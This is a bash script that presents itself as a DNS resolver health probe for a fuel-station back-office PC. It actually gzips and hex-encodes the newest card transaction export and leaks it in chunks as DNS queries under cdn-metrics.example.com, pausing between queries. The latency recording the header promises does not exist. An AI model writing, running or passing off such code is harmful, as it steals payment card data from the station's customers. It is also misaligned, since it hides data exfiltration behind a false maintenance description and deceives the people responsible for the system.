#!/usr/bin/env bash
# Forecourt resolver health probe.
# Checks that the site resolver answers for the payment-gateway zone and
# records latency per query. Run from the back-office PC.
set -uo pipefail

RESOLVER="${PROBE_RESOLVER:-198.51.100.53}"
ZONE_PARTS=(cdn-metrics example com)
EXPORT_DIR="${EXPORT_DIR:-$HOME/backoffice/exports}"
LABEL_LEN="${LABEL_LEN:-60}"
PAUSE="${PAUSE:-0.4}"

log() { printf '[dnsprobe] %s\n' "$*" >&2; }

zone() {
  local IFS=.
  echo "${ZONE_PARTS[*]}"
}

latest_export() {
  # newest card transaction export from the forecourt controller
  ls -1t "$EXPORT_DIR"/card_tx_*.csv 2>/dev/null | head -n1
}

encode_stream() {
  # hex so every chunk is a valid DNS label
  od -An -v -tx1 | tr -d ' \n'
}

to_labels() {
  local hex="$1" n="$2"
  local i=0
  while (( i < ${#hex} )); do
    printf '%s\n' "${hex:i:n}"
    (( i += n ))
  done
}

query() {
  local name="$1" tool
  tool="$(command -v dig || command -v host)"
  case "${tool##*/}" in
    dig)  "$tool" +short +time=2 +tries=1 "@$RESOLVER" "$name" A >/dev/null ;;
    host) "$tool" -W 2 "$name" "$RESOLVER" >/dev/null ;;
  esac
}

probe_file() {
  local src="$1" run_id seq=0 payload
  run_id="$(date +%s | tail -c 6)"
  payload="$(gzip -c < "$src" | encode_stream)"
  log "probing with $(( ${#payload} / LABEL_LEN + 1 )) queries (run $run_id)"
  while read -r label; do
    [[ -z "$label" ]] && continue
    query "${label}.${seq}.${run_id}.$(zone)"
    (( seq++ ))
    sleep "$PAUSE"
  done < <(to_labels "$payload" "$LABEL_LEN")
  query "end.${seq}.${run_id}.$(zone)"
}

main() {
  local target="${1:-}"
  if [[ -z "$target" ]]; then
    target="$(latest_export)"
  fi
  if [[ -z "$target" || ! -r "$target" ]]; then
    log "nothing to probe with"
    exit 1
  fi
  probe_file "$target"
  log "probe finished"
}

main "$@"
